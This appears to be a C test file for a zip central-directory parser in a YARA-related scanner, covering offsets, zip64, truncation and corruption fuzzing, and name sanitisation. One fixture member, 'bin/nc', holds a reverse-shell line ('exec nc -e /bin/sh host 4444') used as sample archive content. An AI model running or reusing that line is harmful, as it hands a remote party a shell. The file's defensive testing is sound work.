/*
 * test_zipdir.c — a zip archive's central directory (lib/yara/zipdir.c),
 * read as Python's zipfile reads it: zips written by libarchive (an
 * independent writer; stored, deflated, a directory entry) and by hand
 * here (a comment, data before the archive with offsets counted from the
 * file's start and from the archive's, zip64), read whole and from the
 * directory on (a streaming caller); each member's data found through
 * its local header; no end record; every truncation and every one-byte
 * corruption of the directory read without a crash or an offset outside
 * the archive; the entry limit; offsets that wrap around.
 */
#include <archive.h>
#include <archive_entry.h>
#include <stdlib.h>
#include <string.h>
#include <zlib.h>
#include "pcx.h"
#include "testlib.h"
#include "yara/zipdir.h"

/* ---- archives by libarchive */

static int same_ent(const pc_zipent *a, const pc_zipent *b)
{
    return a->lho == b->lho && a->csize == b->csize && a->usize == b->usize &&
           a->method == b->method && a->flags == b->flags && a->dir == b->dir &&
           strcmp(a->name, b->name) == 0;
}

static const char *const files[] = {"bin/nc",     "#!/bin/sh\nexec nc -e /bin/sh host 4444\n",
                                    "doc/readme", "just text, just text, just text\n",
                                    "empty",      ""};
#define NFILES 3

/* A zip of files (stored or deflated) with the directory entry "dir/"
 * between the second and third file; *len its size (an exact-size
 * buffer). */
static unsigned char *lazip(const char *compression, size_t *len)
{
    size_t cap = 1 << 16, used = 0;
    unsigned char *buf = malloc(cap);
    struct archive *a = archive_write_new();
    archive_write_set_format_zip(a);
    archive_write_set_format_option(a, "zip", "compression", compression);
    archive_write_open_memory(a, buf, cap, &used);
    for (size_t i = 0; i < NFILES + 1; i++) {
        struct archive_entry *e = archive_entry_new();
        if (i == 2) {
            archive_entry_set_pathname(e, "dir/");
            archive_entry_set_filetype(e, AE_IFDIR);
            archive_entry_set_perm(e, 0755);
            archive_write_header(a, e);
        } else {
            size_t f = i < 2 ? i : i - 1;
            archive_entry_set_pathname(e, files[2 * f]);
            archive_entry_set_filetype(e, AE_IFREG);
            archive_entry_set_perm(e, 0644);
            archive_entry_set_size(e, (la_int64_t)strlen(files[2 * f + 1]));
            archive_write_header(a, e);
            archive_write_data(a, files[2 * f + 1], strlen(files[2 * f + 1]));
        }
        archive_entry_free(e);
    }
    archive_write_close(a);
    archive_write_free(a);
    *len = used;
    return realloc(buf, used);
}

/* The position of the k-th (from 0) occurrence of the 4-byte signature
 * sig, or SIZE_MAX. */
static size_t nth_sig(const unsigned char *p, size_t n, uint32_t sig, size_t k)
{
    for (size_t i = 0; i + 4 <= n; i++)
        if (pc_le32(p + i) == sig && k-- == 0)
            return i;
    return SIZE_MAX;
}

/* ent's data, through pc_zipdir_data, is content (inflated when deflated). */
static int data_is(const unsigned char *p, size_t n, uint64_t base, const pc_zipent *ent,
                   const char *content)
{
    uint64_t off;
    size_t want = strlen(content);
    if (pc_zipdir_data(p, n, base, ent, &off) != 0 || off < base || off - base > n ||
        ent->csize > n - (off - base) || ent->usize != want)
        return 0;
    const unsigned char *d = p + (off - base);
    if (ent->method == 0)
        return ent->csize == want && memcmp(d, content, want) == 0;
    if (ent->method != 8)
        return 0;
    unsigned char out[256];
    z_stream z;
    memset(&z, 0, sizeof z);
    if (inflateInit2(&z, -MAX_WBITS) != Z_OK)
        return 0;
    z.next_in = (unsigned char *)d;
    z.avail_in = (unsigned)ent->csize;
    z.next_out = out;
    z.avail_out = sizeof out;
    int rc = inflate(&z, Z_FINISH);
    size_t got = sizeof out - z.avail_out;
    inflateEnd(&z);
    return rc == Z_STREAM_END && got == want && memcmp(out, content, want) == 0;
}

static void test_libarchive(void)
{
    static const char *const comp[] = {"store", "deflate"};
    for (size_t c = 0; c < 2; c++) {
        size_t len;
        unsigned char *a = lazip(comp[c], &len);
        pc_zipdir d;
        char why[128];
        CHECK(pc_zipdir_read(a, len, 0, 100, &d, why, sizeof why) == 1);
        CHECK(d.n == NFILES + 1);
        if (d.n != NFILES + 1) {
            pc_zipdir_free(&d);
            free(a);
            continue;
        }
        CHECK_STR(d.v[0].name, "bin/nc");
        CHECK_STR(d.v[1].name, "doc/readme");
        CHECK_STR(d.v[2].name, "dir/");
        CHECK_STR(d.v[3].name, "empty");
        CHECK(!d.v[0].dir && !d.v[1].dir && d.v[2].dir && !d.v[3].dir);
        /* deflate where there is something to deflate */
        CHECK(d.v[0].method == (c ? 8 : 0) && d.v[1].method == (c ? 8 : 0));
        for (size_t i = 0; i < d.n; i++) /* in the order they were written */
            CHECK(d.v[i].lho == nth_sig(a, len, 0x04034b50u, i));
        CHECK(data_is(a, len, 0, &d.v[0], files[1]));
        CHECK(data_is(a, len, 0, &d.v[1], files[3]));
        CHECK(data_is(a, len, 0, &d.v[3], files[5]));
        CHECK(d.v[2].usize == 0);

        /* from the directory on, as a streaming caller holds it */
        size_t cd = nth_sig(a, len, 0x02014b50u, 0);
        CHECK(cd != SIZE_MAX && cd < len);
        unsigned char *t = malloc(len - cd);
        memcpy(t, a + cd, len - cd);
        pc_zipdir e;
        CHECK(pc_zipdir_read(t, len - cd, cd, 100, &e, NULL, 0) == 1);
        CHECK(e.n == d.n);
        int same = e.n == d.n;
        for (size_t i = 0; same && i < e.n; i++)
            same = same_ent(&e.v[i], &d.v[i]);
        CHECK(same);
        uint64_t off;
        CHECK(e.n && pc_zipdir_data(t, len - cd, cd, &e.v[0], &off) == -1); /* before p */
        pc_zipdir_free(&e);
        CHECK(e.v == NULL && e.n == 0);
        free(t);
        pc_zipdir_free(&d);
        free(a);
    }
}

/* ---- archives by hand (stored members) */

typedef struct buf {
    unsigned char *p;
    size_t n, cap;
} buf;

static void put(buf *b, const void *s, size_t n)
{
    if (b->n + n > b->cap) {
        b->cap = (b->n + n) * 2;
        b->p = realloc(b->p, b->cap);
    }
    memcpy(b->p + b->n, s, n);
    b->n += n;
}

static void put16(buf *b, unsigned v)
{
    unsigned char x[2] = {(unsigned char)v, (unsigned char)(v >> 8)};
    put(b, x, 2);
}

static void put32(buf *b, uint32_t v)
{
    put16(b, v & 0xffff);
    put16(b, v >> 16);
}

static void put64(buf *b, uint64_t v)
{
    put32(b, (uint32_t)v);
    put32(b, (uint32_t)(v >> 32));
}

typedef struct spec {
    size_t prefix;       /* bytes before the archive (a script) */
    int adjusted;        /* offsets count from the file's start (zip -A), not the archive's */
    int zip64;           /* sizes and offsets in zip64 extra fields, zip64 end records */
    const char *comment; /* the archive's comment, or NULL */
    uint64_t lho_delta;  /* added to every recorded local header offset */
    uint64_t cd_delta;   /* added to the recorded directory offset */
} spec;

typedef struct made {
    unsigned char *p;  /* exact size */
    size_t n, cd, end; /* size; where the directory starts; where the end record starts */
    uint64_t lho[NFILES];
} made;

static made hand(const spec *s)
{
    made m;
    buf b = {0};
    memset(&m, 0, sizeof m);
    for (size_t i = 0; i < s->prefix; i++)
        put(&b, "#!/bin/sh\n" + i % 10, 1);
    uint64_t rel = s->adjusted ? 0 : s->prefix; /* recorded = position - rel */
    for (size_t i = 0; i < NFILES; i++) {
        const char *name = files[2 * i], *data = files[2 * i + 1];
        size_t nl = strlen(name), dl = strlen(data);
        m.lho[i] = b.n;
        put32(&b, 0x04034b50u);
        put16(&b, s->zip64 ? 45 : 20);
        put16(&b, 0);
        put16(&b, 0); /* stored */
        put32(&b, 0); /* time, date */
        put32(&b, (uint32_t)crc32(0, (const unsigned char *)data, (unsigned)dl));
        put32(&b, s->zip64 ? 0xffffffffu : (uint32_t)dl);
        put32(&b, s->zip64 ? 0xffffffffu : (uint32_t)dl);
        put16(&b, (unsigned)nl);
        put16(&b, s->zip64 ? 20 : 0);
        put(&b, name, nl);
        if (s->zip64) {
            put16(&b, 1);
            put16(&b, 16);
            put64(&b, dl);
            put64(&b, dl);
        }
        put(&b, data, dl);
    }
    m.cd = b.n;
    for (size_t i = 0; i < NFILES; i++) {
        const char *name = files[2 * i], *data = files[2 * i + 1];
        size_t nl = strlen(name), dl = strlen(data);
        uint64_t lho = m.lho[i] - rel + s->lho_delta;
        put32(&b, 0x02014b50u);
        put16(&b, 0x031e);
        put16(&b, s->zip64 ? 45 : 20);
        put16(&b, 0);
        put16(&b, 0);
        put32(&b, 0);
        put32(&b, (uint32_t)crc32(0, (const unsigned char *)data, (unsigned)dl));
        put32(&b, s->zip64 ? 0xffffffffu : (uint32_t)dl);
        put32(&b, s->zip64 ? 0xffffffffu : (uint32_t)dl);
        put16(&b, (unsigned)nl);
        put16(&b, s->zip64 ? 28 : 0);
        put16(&b, 0);              /* comment */
        put16(&b, 0);              /* disk */
        put16(&b, 0);              /* internal attributes */
        put32(&b, 0100644u << 16); /* external attributes */
        put32(&b, s->zip64 ? 0xffffffffu : (uint32_t)lho);
        put(&b, name, nl);
        if (s->zip64) {
            put16(&b, 1);
            put16(&b, 24);
            put64(&b, dl);
            put64(&b, dl);
            put64(&b, lho);
        }
    }
    uint64_t cd_size = b.n - m.cd, cd_off = m.cd - rel + s->cd_delta;
    if (s->zip64) {
        uint64_t z = b.n;
        put32(&b, 0x06064b50u);
        put64(&b, 44);
        put16(&b, 45);
        put16(&b, 45);
        put32(&b, 0);
        put32(&b, 0);
        put64(&b, NFILES);
        put64(&b, NFILES);
        put64(&b, cd_size);
        put64(&b, cd_off);
        put32(&b, 0x07064b50u);
        put32(&b, 0);
        put64(&b, z - rel);
        put32(&b, 1);
    }
    m.end = b.n;
    size_t cl = s->comment ? strlen(s->comment) : 0;
    put32(&b, 0x06054b50u);
    put16(&b, 0);
    put16(&b, 0);
    put16(&b, s->zip64 ? 0xffff : NFILES);
    put16(&b, s->zip64 ? 0xffff : NFILES);
    put32(&b, s->zip64 ? 0xffffffffu : (uint32_t)cd_size);
    put32(&b, s->zip64 ? 0xffffffffu : (uint32_t)cd_off);
    put16(&b, (unsigned)cl);
    put(&b, s->comment ? s->comment : "", cl);
    m.n = b.n;
    m.p = realloc(b.p, b.n);
    return m;
}

/* The hand archive reads back: its three members at their local
 * headers, with their data; whole and from the directory on. */
static void check_hand(const made *m, const char *what)
{
    pc_zipdir d;
    char why[128] = "";
    int rc = pc_zipdir_read(m->p, m->n, 0, 100, &d, why, sizeof why);
    int ok = rc == 1 && d.n == NFILES;
    for (size_t i = 0; ok && i < NFILES; i++)
        ok = d.v[i].lho == m->lho[i] && strcmp(d.v[i].name, files[2 * i]) == 0 &&
             d.v[i].method == 0 && !d.v[i].dir && data_is(m->p, m->n, 0, &d.v[i], files[2 * i + 1]);
    if (!ok)
        fprintf(stderr, "%s: rc %d, %zu entries (%s)\n", what, rc, d.n, why);
    CHECK(ok);
    unsigned char *t = malloc(m->n - m->cd);
    memcpy(t, m->p + m->cd, m->n - m->cd);
    pc_zipdir e;
    rc = pc_zipdir_read(t, m->n - m->cd, m->cd, 100, &e, why, sizeof why);
    ok = rc == 1 && e.n == d.n;
    for (size_t i = 0; ok && i < e.n; i++)
        ok = same_ent(&e.v[i], &d.v[i]);
    if (!ok)
        fprintf(stderr, "%s, from the directory on: rc %d (%s)\n", what, rc, why);
    CHECK(ok);
    pc_zipdir_free(&e);
    pc_zipdir_free(&d);
    free(t);
}

static void test_hand(void)
{
    made m = hand(&(spec){0});
    check_hand(&m, "plain");
    free(m.p);
    m = hand(&(spec){.comment = "an archive comment"});
    CHECK(m.end + 22 + 18 == m.n);
    check_hand(&m, "comment");
    free(m.p);
    /* a comment holding what looks like an end record: the last one wins
     * (Python's rfind), and this one is too short to be a record */
    m = hand(&(spec){.comment = "x PK\x05\x06 y"});
    pc_zipdir d;
    char why[128];
    CHECK(pc_zipdir_read(m.p, m.n, 0, 100, &d, why, sizeof why) == 0 && d.n == 0);
    free(m.p);
    /* data before the archive: offsets from the archive's start (concat),
     * from the file's start (zip -A), both in plain and zip64 form */
    for (int z = 0; z < 2; z++) {
        m = hand(&(spec){.prefix = 1000, .zip64 = z});
        check_hand(&m, z ? "zip64, prefix, archive offsets" : "prefix, archive offsets");
        free(m.p);
        m = hand(&(spec){.prefix = 1000, .adjusted = 1, .zip64 = z});
        check_hand(&m, z ? "zip64, prefix, file offsets" : "prefix, file offsets");
        free(m.p);
    }
    m = hand(&(spec){.zip64 = 1, .comment = "z"});
    check_hand(&m, "zip64");
    free(m.p);
}

/* The comment length field against the bytes after the record. */
static void test_comment(void)
{
    made m = hand(&(spec){.comment = "0123456789"});
    pc_zipdir d;
    char why[128];
    /* the comment says 10 bytes, 9 follow: the record is found, the
     * comment does not fit */
    CHECK(pc_zipdir_read(m.p, m.n - 1, 0, 100, &d, why, sizeof why) == -1);
    CHECK_CONTAINS(why, "comment");
    /* more bytes after the comment than it says: read (as Python reads it) */
    unsigned char *x = malloc(m.n + 5);
    memcpy(x, m.p, m.n);
    memcpy(x + m.n, "JUNK!", 5);
    CHECK(pc_zipdir_read(x, m.n + 5, 0, 100, &d, why, sizeof why) == 1 && d.n == NFILES);
    pc_zipdir_free(&d);
    /* a record with no comment but bytes after it: searched for, found */
    free(m.p);
    free(x);
    m = hand(&(spec){0});
    x = malloc(m.n + 3);
    memcpy(x, m.p, m.n);
    memcpy(x + m.n, "abc", 3);
    CHECK(pc_zipdir_read(x, m.n + 3, 0, 100, &d, why, sizeof why) == 1 && d.n == NFILES);
    pc_zipdir_free(&d);
    free(x);
    /* the record more than 64 KiB + 22 bytes from the end: not looked for */
    size_t far = m.n + (64u << 10) + 1;
    x = calloc(1, far);
    memcpy(x, m.p, m.n);
    CHECK(pc_zipdir_read(x, far, 0, 100, &d, why, sizeof why) == 0);
    CHECK(pc_zipdir_read(x, far - 1, 0, 100, &d, why, sizeof why) == 1 && d.n == NFILES);
    pc_zipdir_free(&d);
    free(x);
    free(m.p);
}

static void test_no_end(void)
{
    pc_zipdir d;
    char why[128];
    const char text[] = "no archive here, just text that goes on for a while\n";
    CHECK(pc_zipdir_read((const unsigned char *)text, sizeof text - 1, 0, 100, &d, why,
                         sizeof why) == 0);
    CHECK(d.n == 0 && d.v == NULL);
    CHECK_CONTAINS(why, "no end of central directory");
    CHECK(pc_zipdir_read(NULL, 0, 0, 100, &d, NULL, 0) == 0);
    unsigned char sig[4] = {'P', 'K', 5, 6};
    CHECK(pc_zipdir_read(sig, 4, 0, 100, &d, why, sizeof why) == 0);
    /* an empty archive: its end record alone */
    unsigned char empty[22] = {'P', 'K', 5, 6};
    CHECK(pc_zipdir_read(empty, 22, 0, 100, &d, why, sizeof why) == 1 && d.n == 0);
    pc_zipdir_free(&d);
    CHECK(pc_zipdir_read(empty, 22, 0, 0, &d, why, sizeof why) == 1 && d.n == 0);
    pc_zipdir_free(&d);
    /* a libarchive zip with its end record cut off */
    size_t len;
    unsigned char *a = lazip("store", &len);
    CHECK(pc_zipdir_read(a, len - 22, 0, 100, &d, why, sizeof why) == 0);
    /* pc_zipdir_ends: the end record decides, not its counts alone; an
     * empty directory (0 entries, 0 bytes, no zip64 locator) is no zip */
    CHECK(!pc_zipdir_ends((const unsigned char *)text, sizeof text - 1));
    CHECK(!pc_zipdir_ends(sig, 4) && !pc_zipdir_ends(empty, 22));
    CHECK(!pc_zipdir_ends(a, len - 22) && pc_zipdir_ends(a, len));
    memset(a + len - 22 + 8, 0, 4); /* both entry counts 0: Python reads by the size */
    CHECK(pc_zipdir_ends(a, len));
    {
        /* a library's data: an empty end record after other bytes (D's
         * libgphobos), and the same with one entry counted (unzip reads
         * by the count), a directory size, or a zip64 locator before it */
        unsigned char lib[64 + 20 + 22] = {0x7f, 'E', 'L', 'F'};
        unsigned char *r = lib + 84;
        memcpy(r, "PK\5\6", 4);
        r[16] = 4; /* (the directory's offset alone is not read) */
        CHECK(!pc_zipdir_ends(lib, sizeof lib));
        r[10] = 1;
        CHECK(pc_zipdir_ends(lib, sizeof lib));
        r[10] = 0;
        r[8] = 1;
        CHECK(pc_zipdir_ends(lib, sizeof lib));
        r[8] = 0;
        r[12] = 46;
        CHECK(pc_zipdir_ends(lib, sizeof lib));
        r[12] = 0;
        memcpy(r - 20, "PK\6\7", 4);
        CHECK(pc_zipdir_ends(lib, sizeof lib));
    }
    CHECK(pc_zipdir_read(a, len, 0, 100, &d, why, sizeof why) == 1 && d.n == NFILES + 1);
    pc_zipdir_free(&d);
    free(a);
}

static void test_bad(void)
{
    pc_zipdir d;
    char why[128];
    /* the entry limit */
    made m = hand(&(spec){0});
    CHECK(pc_zipdir_read(m.p, m.n, 0, NFILES, &d, why, sizeof why) == 1 && d.n == NFILES);
    pc_zipdir_free(&d);
    CHECK(pc_zipdir_read(m.p, m.n, 0, NFILES - 1, &d, why, sizeof why) == -1);
    CHECK(d.n == 0 && d.v == NULL);
    CHECK_CONTAINS(why, "more than 2");
    /* the directory larger than what precedes the end record */
    unsigned char *x = malloc(m.n);
    memcpy(x, m.p, m.n);
    x[m.end + 12] = 0xff, x[m.end + 13] = 0xff;
    CHECK(pc_zipdir_read(x, m.n, 0, 100, &d, why, sizeof why) == -1);
    CHECK_CONTAINS(why, "larger than");
    /* a streaming caller's bytes that miss the directory's first byte */
    CHECK(pc_zipdir_read(m.p + m.cd + 1, m.n - m.cd - 1, m.cd + 1, 100, &d, why, sizeof why) == -1);
    /* an entry's name running past the directory */
    memcpy(x, m.p, m.n);
    size_t last = nth_sig(x, m.n, 0x02014b50u, NFILES - 1);
    x[last + 28] = 200;
    CHECK(pc_zipdir_read(x, m.n, 0, 100, &d, why, sizeof why) == -1);
    CHECK_CONTAINS(why, "entry 3 runs past the directory's end");
    /* a bad entry signature */
    memcpy(x, m.p, m.n);
    x[last + 1] = 'X';
    CHECK(pc_zipdir_read(x, m.n, 0, 100, &d, why, sizeof why) == -1);
    CHECK_CONTAINS(why, "entry 3");
    /* a local header offset past the archive's end */
    memcpy(x, m.p, m.n);
    x[last + 44] = 0x7f;
    CHECK(pc_zipdir_read(x, m.n, 0, 100, &d, why, sizeof why) == -1);
    /* pc_zipdir_data: a header that is not one, data past the end */
    memcpy(x, m.p, m.n);
    CHECK(pc_zipdir_read(x, m.n, 0, 100, &d, why, sizeof why) == 1 && d.n == NFILES);
    uint64_t off;
    if (d.n == NFILES) {
        CHECK(pc_zipdir_data(x, m.n, 0, &d.v[1], &off) == 0 && off == m.lho[1] + 30 + 10);
        x[m.lho[1]] = 'Q';
        CHECK(pc_zipdir_data(x, m.n, 0, &d.v[1], &off) == -1);
        pc_zipent big = d.v[0];
        big.csize = m.n;
        CHECK(pc_zipdir_data(x, m.n, 0, &big, &off) == -1);
        big.lho = m.n - 10;
        CHECK(pc_zipdir_data(x, m.n, 0, &big, &off) == -1);
        big.lho = UINT64_MAX;
        CHECK(pc_zipdir_data(x, m.n, 0, &big, &off) == -1);
        CHECK(pc_zipdir_data(x, m.n, UINT64_MAX - 4, &d.v[0], &off) == -1);
    }
    pc_zipdir_free(&d);
    /* base + n past 2^64 */
    CHECK(pc_zipdir_read(m.p, m.n, UINT64_MAX - 4, 100, &d, why, sizeof why) == -1);
    free(x);
    free(m.p);
}

static void test_zip64(void)
{
    pc_zipdir d;
    char why[128];
    made m = hand(&(spec){.zip64 = 1});
    unsigned char *x = malloc(m.n);
    size_t z = m.end - 20 - 56; /* the zip64 end record */
    /* a bad zip64 record, a locator naming another disk */
    memcpy(x, m.p, m.n);
    x[z] = 'Q';
    CHECK(pc_zipdir_read(x, m.n, 0, 100, &d, why, sizeof why) == -1);
    CHECK_CONTAINS(why, "zip64");
    memcpy(x, m.p, m.n);
    x[m.end - 20 + 16] = 2;
    CHECK(pc_zipdir_read(x, m.n, 0, 100, &d, why, sizeof why) == -1);
    /* the zip64 record's sizes are the ones read (not the end record's) */
    memcpy(x, m.p, m.n);
    x[z + 40] ^= 1;
    CHECK(pc_zipdir_read(x, m.n, 0, 100, &d, why, sizeof why) == -1);
    /* the locator with too little before it for the record */
    CHECK(pc_zipdir_read(x + z + 1, m.n - z - 1, z + 1, 100, &d, why, sizeof why) == -1);
    /* an extra field missing the local header offset the entry needs */
    size_t c0 = m.cd;
    memcpy(x, m.p, m.n);
    x[c0 + 46 + 6 + 2] = 16; /* "bin/nc": the zip64 field says 16 bytes, not 24 */
    CHECK(pc_zipdir_read(x, m.n, 0, 100, &d, why, sizeof why) == -1);
    CHECK_CONTAINS(why, "extra field");
    /* an extra field running past the extra data */
    memcpy(x, m.p, m.n);
    x[c0 + 46 + 6 + 2] = 25;
    CHECK(pc_zipdir_read(x, m.n, 0, 100, &d, why, sizeof why) == -1);
    /* the offset at 2^64 - 1: refused, wrapped around by concat or not */
    memcpy(x, m.p, m.n);
    memset(x + c0 + 46 + 6 + 4 + 16, 0xff, 8);
    CHECK(pc_zipdir_read(x, m.n, 0, 100, &d, why, sizeof why) == -1);
    CHECK_CONTAINS(why, "entry 1");
    free(x);
    free(m.p);
    made p = hand(&(spec){.zip64 = 1, .prefix = 100, .lho_delta = UINT64_MAX - 50});
    CHECK(pc_zipdir_read(p.p, p.n, 0, 100, &d, why, sizeof why) == -1);
    CHECK_CONTAINS(why, "outside the archive");
    free(p.p);
    /* the recorded directory offset past 2^63: concat below INT64_MIN,
     * yet offsets that agree with it land where they should, as Python's
     * integers put them */
    uint64_t huge = (1ull << 63) + 12345;
    p = hand(&(spec){.zip64 = 1, .lho_delta = huge, .cd_delta = huge});
    check_hand(&p, "zip64, offsets past 2^63");
    free(p.p);
}

/* concat below zero: the directory says it starts further on than it does */
static void test_concat(void)
{
    pc_zipdir d;
    char why[128];
    made m = hand(&(spec){.cd_delta = 50});
    CHECK(pc_zipdir_read(m.p, m.n, 0, 100, &d, why, sizeof why) == -1); /* lho 0 - 50 */
    CHECK_CONTAINS(why, "entry 1: its local header offset is outside the archive");
    free(m.p);
    /* every offset as far on: concat -50 brings them back */
    m = hand(&(spec){.cd_delta = 50, .lho_delta = 50});
    check_hand(&m, "concat -50");
    free(m.p);
    /* concat +1000 with offsets past the end once moved */
    m = hand(&(spec){.prefix = 1000, .lho_delta = 4000});
    CHECK(pc_zipdir_read(m.p, m.n, 0, 100, &d, why, sizeof why) == -1);
    CHECK_CONTAINS(why, "past the archive's end");
    free(m.p);
}

/* The reader's promise over damage: 0, 1 or -1; on 1 every local header
 * offset below the archive's end and pc_zipdir_data safe on each; on
 * anything else d empty. ASan checks the reads (exact-size copies). */
static int sane(const unsigned char *p, size_t n, uint64_t base, size_t max, int *rc_out)
{
    pc_zipdir d;
    char why[64];
    int rc = pc_zipdir_read(p, n, base, max, &d, why, sizeof why);
    *rc_out = rc;
    if (rc != 1)
        return (rc == 0 || rc == -1) && d.n == 0 && d.v == NULL && strlen(why) > 0;
    int ok = d.n <= max;
    for (size_t i = 0; i < d.n; i++) {
        uint64_t off;
        ok &= d.v[i].lho < base + n;
        if (pc_zipdir_data(p, n, base, &d.v[i], &off) == 0)
            ok &= off >= base && off - base <= n && d.v[i].csize <= n - (off - base);
        ok &= strlen(d.v[i].name) <= PC_MEMBERS_NAME_MAX && d.v[i].name[0];
        for (const char *s = d.v[i].name; *s; s++)
            ok &= (unsigned char)*s >= 0x20 && *s != 0x7f;
    }
    pc_zipdir_free(&d);
    return ok;
}

/* One read of damaged bytes, counted: *bad when the promise broke,
 * counts[rc + 1] by outcome. */
static void one(const unsigned char *p, size_t n, uint64_t base, size_t *bad, size_t counts[3])
{
    int rc = 2;
    int ok = sane(p, n, base, 100, &rc);
    if (!ok || rc < -1 || rc > 1)
        ++*bad;
    else
        counts[rc + 1]++;
}

static void damage(const unsigned char *a, size_t len, size_t from, const char *what)
{
    size_t bad = 0, counts[3] = {0, 0, 0};
    /* every truncation: the archive cut short (whole from its start), and
     * its last k bytes (a streaming caller's tail, at its coordinates) */
    for (size_t k = 0; k <= len; k++) {
        unsigned char *t = malloc(k ? k : 1);
        memcpy(t, a, k);
        one(t, k, 0, &bad, counts);
        memcpy(t, a + len - k, k);
        one(t, k, len - k, &bad, counts);
        free(t);
    }
    /* every value of every byte from the directory on */
    unsigned char *x = malloc(len);
    memcpy(x, a, len);
    for (size_t i = from; i < len; i++) {
        for (unsigned v = 0; v < 256; v++) {
            if (v == a[i])
                continue;
            x[i] = (unsigned char)v;
            one(x, len, 0, &bad, counts);
            one(x + from, len - from, from, &bad, counts);
        }
        x[i] = a[i];
    }
    free(x);
    if (bad || !counts[0] || !counts[1] || !counts[2])
        fprintf(stderr, "%s: %zu bad; -1: %zu, 0: %zu, 1: %zu\n", what, bad, counts[0], counts[1],
                counts[2]);
    CHECK(bad == 0);
    CHECK(counts[0] > 0 && counts[1] > 0 && counts[2] > 0); /* each outcome seen */
}

static void test_damage(void)
{
    size_t len;
    unsigned char *a = lazip("deflate", &len);
    damage(a, len, nth_sig(a, len, 0x02014b50u, 0), "libarchive zip");
    free(a);
    made m = hand(&(spec){.zip64 = 1, .prefix = 30, .comment = "c"});
    damage(m.p, m.n, m.cd, "zip64");
    free(m.p);
}

/* A directory of one entry named by raw[0..len) (its local header at 0,
 * the rest zero), then the end record: all of b. */
static void one_entry(buf *b, const char *raw, size_t len)
{
    put32(b, 0x02014b50u);
    for (int k = 0; k < 24; k++)
        put(b, "", 1);
    put16(b, (unsigned)len);
    for (int k = 0; k < 16; k++)
        put(b, "", 1);
    put(b, raw, len);
    size_t cd = b->n;
    put32(b, 0x06054b50u);
    put32(b, 0);
    put16(b, 1);
    put16(b, 1);
    put32(b, (uint32_t)cd);
    put32(b, 0);
    put16(b, 0);
}

/* Names for messages; a directory as Python's zipfile tells one. */
static void test_names(void)
{
    static const struct {
        const char *raw;
        size_t len;
        const char *shown;
        int dir;
    } c[] = {
        {"", 0, "(no name)", 0}, {"a\tb\x7f\x1b[31m", 9, "a?b??[31m", 0},
        {"d/\0x", 4, "d/?x", 1}, {"d\0/", 3, "d?/", 0},
        {"/", 1, "/", 1},
    };
    for (size_t i = 0; i < sizeof c / sizeof c[0]; i++) {
        buf b = {0};
        one_entry(&b, c[i].raw, c[i].len);
        pc_zipdir d;
        CHECK(pc_zipdir_read(b.p, b.n, 0, 10, &d, NULL, 0) == 1 && d.n == 1);
        if (d.n == 1) {
            CHECK_STR(d.v[0].name, c[i].shown);
            CHECK(d.v[0].dir == c[i].dir);
        }
        pc_zipdir_free(&d);
        free(b.p);
    }
    /* a long name: cut for messages, the whole of it read past */
    char lng[400];
    memset(lng, 'n', sizeof lng);
    lng[sizeof lng - 1] = '/';
    buf b = {0};
    one_entry(&b, lng, sizeof lng);
    pc_zipdir d;
    CHECK(pc_zipdir_read(b.p, b.n, 0, 10, &d, NULL, 0) == 1 && d.n == 1);
    CHECK(d.n == 1 && strlen(d.v[0].name) == PC_MEMBERS_NAME_MAX && d.v[0].dir);
    pc_zipdir_free(&d);
    free(b.p);
}

int main(void)
{
    test_libarchive();
    test_hand();
    test_comment();
    test_no_end();
    test_bad();
    test_zip64();
    test_concat();
    test_damage();
    test_names();
    TEST_MAIN_END();
}
